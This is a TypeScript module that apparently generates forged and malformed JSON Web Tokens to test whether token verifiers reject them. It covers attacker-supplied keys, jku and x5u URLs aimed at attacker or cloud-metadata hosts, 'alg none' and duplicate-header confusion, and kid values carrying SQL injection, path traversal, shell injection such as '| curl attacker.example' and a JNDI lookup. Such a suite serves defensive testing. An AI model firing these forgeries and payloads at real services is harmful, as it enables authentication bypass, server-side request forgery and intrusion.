import { createHash } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import { certificate, encode, type Forgery, genuine, inputOf, jws, mac, type Pair, pair, signWith, type Victim } from './forging.ts'

/** Tokens that bring their own key, or say where it can be fetched (CVE-2018-0114, RFC 8725 §3.10). */
export function broughtKeys(victim: Victim): Forgery[] {
  return ['ES256', 'RS256', 'EdDSA'].flatMap(alg => {
    const attacker = pair(alg, 'attacker')
    const kids = [attacker.kid, victim.trusted[0]?.kid, undefined]
    return Object.entries(bringing(attacker, victim)).flatMap(([name, header]) =>
      kids.map(kid => ({ name: `${alg}, ${name}, kid ${kid}`, token: genuine(victim, attacker, {}, { kid, ...header }) })),
    )
  })
}

function bringing(attacker: Pair, { lure, trusted }: Victim): Record<string, object> {
  const set = JSON.stringify({ keys: [attacker.jwk] })
  const x5c =
    attacker.alg === 'ES256'
      ? [certificate(attacker).toString('base64')]
      : [attacker.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')]
  const sha1 = createHash('sha1')
    .update(Buffer.from(x5c[0] as string, 'base64'))
    .digest('base64url')
  return {
    jwk: { jwk: attacker.jwk },
    'jwk with the private key': { jwk: attacker.privateKey.export({ format: 'jwk' }) },
    'jwk with the kid of a trusted key': { jwk: { ...attacker.jwk, kid: trusted[0]?.kid } },
    'jwk as text': { jwk: JSON.stringify(attacker.jwk) },
    keys: { keys: [attacker.jwk], jwks: { keys: [attacker.jwk] } },
    x5c: { x5c },
    'x5c and x5t': { x5c, x5t: sha1 },
    jku: { jku: `${lure}/jwks` },
    'jku with user information': { jku: `http://people.example@${new URL(lure).host}/jwks` },
    'jku in data:': { jku: `data:application/json;base64,${Buffer.from(set).toString('base64')}` },
    'jku in file:': { jku: 'file:///etc/passwd' },
    'jku to cloud credentials': { jku: 'http://169.254.169.254/latest/meta-data/' },
    jwks_uri: { jwks_uri: `${lure}/jwks` },
    x5u: { x5u: `${lure}/certificate.pem` },
    'jku, x5u and jwk': { jku: `${lure}/jwks`, x5u: `${lure}/certificate.pem`, jwk: attacker.jwk },
  }
}

/** Symmetric keys in the header. */
export function broughtSecrets(victim: Victim): Forgery[] {
  const secret = Buffer.alloc(32, 7)
  const jwk = { kty: 'oct', k: secret.toString('base64url'), kid: 'attacker' }
  return ['HS256', 'HS512', ...victim.trusted.map(({ alg }) => alg)].map(alg => ({
    name: `a symmetric jwk in the header, alg ${alg}`,
    token: mac(alg, secret, { jwk, kid: 'attacker', ...victim.header }, victim.claims()),
  }))
}

/** Claims that lead to the attacker's keys. */
export function misleadingIssuers(victim: Victim): Forgery[] {
  const attacker = pair('RS256', 'attacker')
  const issuers = [victim.lure, `${victim.lure}/`, { issuer: victim.lure }, [victim.lure], 'file:///etc', '//people.example', 'about:blank']
  return issuers.flatMap(iss =>
    [{}, { jku: `${victim.lure}/jwks` }].map(header => ({
      name: `iss ${JSON.stringify(iss)} with keys of its own${'jku' in header ? ' and jku' : ''}`,
      token: genuine(victim, attacker, { iss }, header),
    })),
  )
}

/** What a `kid` does to servers that look it up in files, databases, objects, or over the network. */
export function injectedKids(victim: Victim): Forgery[] {
  const [{ kid: known } = { kid: '' }] = victim.trusted
  const attacker = pair('ES256', known)
  const kids: unknown[] = [
    ...[
      '../../../../../../dev/null',
      '/dev/null',
      '/proc/sys/kernel/randomize_va_space',
      'file:///dev/null',
      '..\\..\\windows\\win.ini',
      '.',
      '',
    ],
    ...["' OR '1'='1", "x' UNION SELECT 'AA==';--", '"; DROP TABLE keys;--', "1' AND SLEEP(5)--", '{"$ne":null}', '*)(uid=*', '*'],
    ...[
      '| curl attacker.example',
      '; id',
      '$(id)',
      '`id`',
      '%00',
      '%2e%2e%2f',
      '$\u007bjndi:ldap://127.0.0.1/a}',
      '{{7*7}}',
      '#{7*7}',
      '<!ENTITY x>',
    ],
    ...[
      '\0',
      `${known}\0`,
      `${known}\0.pem`,
      `\0${known}`,
      `${known}\n`,
      ` ${known}`,
      `${known} `,
      known.toUpperCase(),
      `${known}#`,
      `${known}%00`,
    ],
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'size', 'length', '0', 'undefined', 'null', 'true', 'NaN'],
    ...[
      victim.neighbour.kid,
      victim.lure,
      `${victim.lure}/jwks`,
      '\u202e',
      '\ud800',
      '\u{1f511}',
      'k'.repeat(10_000),
      `${known}${' '.repeat(5_000)}`,
    ],
    ...[0, 1, true, false, null, [], [known], [[known]], {}, { kid: known }, { toString: known }],
  ]
  return kids.flatMap((kid, index) => [
    { name: `kid ${short(kid)}, signed by an attacker (${index})`, token: genuine(victim, attacker, {}, { kid }) },
    {
      name: `kid ${short(kid)}, HS256 with an empty secret (${index})`,
      token: mac('HS256', '', { kid, ...victim.header }, victim.claims()),
    },
  ])
}

/** A trusted signature, but the header names its key wrongly. */
export function wrongKids(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key =>
    [`${key.kid} `, `${key.kid}\0`, key.kid.toUpperCase(), [key.kid], { kid: key.kid }, null, 7, '', victim.neighbour.kid].map(kid => ({
      name: `${key.alg} signature, kid ${short(kid)}`,
      token: genuine(victim, key, {}, { kid }),
      signed: true as const,
    })),
  )
}

const otherTypes: unknown[] = [
  ...['dpop+jwt', 'txntoken+jwt', 'oauth-id-jag+jwt', 'token-introspection+jwt', 'secevent+jwt', 'logout+jwt', 'wit+jwt', 'wpt+jwt'],
  ...[
    'oauth-client-attestation+jwt',
    'oauth-client-attestation-pop+jwt',
    'oauth-authz-req+jwt',
    'entity-statement+jwt',
    'kb+jwt',
    'vc+sd-jwt',
  ],
  ...[
    'application/dpop+jwt',
    'DPoP+JWT',
    'APPLICATION/TXNTOKEN+JWT',
    'application/application/jwt',
    'text/jwt',
    'JOSE',
    'jose+json',
    'JWE',
    'SAML',
  ],
  ...['', ' ', 'jwt ', ' jwt', 'jwt;x=1', 'jwt\0', 'at+jwt at+jwt', '*/*', null, 0, false, ['JWT'], { typ: 'JWT' }, []],
]

/** JWTs that were made for something else (RFC 8725 §3.11). `mine` are the types that are in order. */
export function otherKinds(victim: Victim, mine: readonly string[]): Forgery[] {
  const more = ['at+jwt', 'application/at+jwt', 'client-authentication+jwt', 'JWT', 'id+jwt'].filter(typ => !mine.includes(typ))
  return [...otherTypes, ...more].map(typ => ({
    name: `typ ${JSON.stringify(typ)}`,
    token: genuine(victim, undefined, {}, { typ }),
    signed: true,
  }))
}

/** Extensions that change what is signed, or that a reader has to understand (RFC 7515 §4.1.11, RFC 7797). */
export function extensions(victim: Victim): Forgery[] {
  const headers: object[] = [
    ...[
      { crit: ['exp'], exp: 1 },
      { crit: [] },
      { crit: ['b64'], b64: false },
      { crit: ['b64'], b64: true },
      { b64: false },
      { b64: true },
    ],
    ...[
      { crit: 'exp' },
      { crit: null },
      { crit: {} },
      { crit: ['crit'] },
      { crit: ['alg'] },
      { crit: ['x'], x: 1 },
      { crit: ['kid', 'kid'] },
      { crit: [1] },
    ],
    { crit: ['http://openid.net/specs'], 'http://openid.net/specs': true },
  ]
  return [
    ...headers.map(header => ({
      name: `header ${JSON.stringify(header)}`,
      token: genuine(victim, undefined, {}, header),
      signed: true as const,
    })),
    ...victim.trusted.flatMap(key => unencoded(victim, key)),
  ]
}

// RFC 7797: the payload stands there, or is signed, without base64url.
function unencoded(victim: Victim, key: Pair): Forgery[] {
  const claims = JSON.stringify(victim.claims())
  const header = encode({ alg: key.alg, kid: key.kid, ...victim.header, b64: false, crit: ['b64'] })
  const signature = encode(signWith(key.alg, key.privateKey, `${header}.${claims}`))
  const deflated = deflateRawSync(Buffer.from(claims))
  return [
    { name: `${key.alg}: the payload unencoded`, token: `${header}.${claims}.${signature}`, signed: true },
    { name: `${key.alg}: signed unencoded, sent encoded`, token: `${header}.${encode(claims)}.${signature}`, signed: true },
    { name: `${key.alg}: the payload detached`, token: `${header}..${signature}`, signed: true },
    { name: `${key.alg}: a deflated payload`, token: jws(key, { ...victim.header, zip: 'DEF' }, deflated), signed: true },
  ]
}

/** Headers that are none, or that two readers understand differently (RFC 8725bis). Text, so that a member can be there twice. */
export function ambiguousHeaders(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const rest = JSON.stringify(victim.header).slice(1, -1)
    const more = rest === '' ? '' : `,${rest}`
    const good = `"alg":"${key.alg}","kid":"${key.kid}"${more}`
    const headers = [
      ...[
        `{"alg":"none",${good}}`,
        `{${good},"alg":"none"}`,
        `{"alg":"HS256",${good}}`,
        `{${good},"alg":"${key.alg}"}`,
        `{${good},"\\u0061lg":"none"}`,
      ],
      ...[`{"kid":"x",${good}}`, `{${good},"kid":"x"}`, `{${good},"typ":"dpop+jwt","typ":"JWT"}`, `{${good},"x":{"a":1,"a":2}}`],
      ...[
        `[{${good}}]`,
        `{${good}}{}`,
        `{${good}}\0`,
        `{${good},}`,
        `{${good}} // comment`,
        `{'alg':'${key.alg}'}`,
        `{alg:"${key.alg}"}`,
        `{${good}`,
      ],
      ...['', '{}', 'null', '[]', '""', '7', '{"alg":', `"${good.replaceAll('"', '')}"`, `\ufeff{${good}}`],
    ]
    return headers.map(header => ({
      name: `${key.alg}, header ${short(header)}`,
      token: jws(key, header, victim.claims()),
      signed: true as const,
    }))
  })
}

/** The header in other encodings than UTF-8. */
export function headerBytes(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const text = JSON.stringify({ alg: key.alg, kid: key.kid, ...victim.header })
    const encodings: Record<string, Buffer> = {
      'UTF-16': Buffer.from(text, 'utf16le'),
      'UTF-16 with a mark': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
      'an overlong form': Buffer.from(Buffer.from(text).toString('latin1').replace('"alg"', '"\xc1\xa1lg"'), 'latin1'),
      'a byte that is no UTF-8': Buffer.from(`${text.slice(0, -1)},"x":"\xff"}`, 'latin1'),
      'a lone surrogate in UTF-8': Buffer.from(`${text.slice(0, -1)},"x":"\xed\xa0\x80"}`, 'latin1'),
    }
    return Object.entries(encodings).map(([name, bytes]) => {
      const input = inputOf(bytes, victim.claims())
      return {
        name: `${key.alg}, header in ${name}`,
        token: `${input}.${encode(signWith(key.alg, key.privateKey, input))}`,
        signed: true as const,
      }
    })
  })
}

function short(value: unknown): string {
  const text = JSON.stringify(value)
  return text.length > 60 ? `${text.slice(0, 50)}... (${text.length})` : text
}
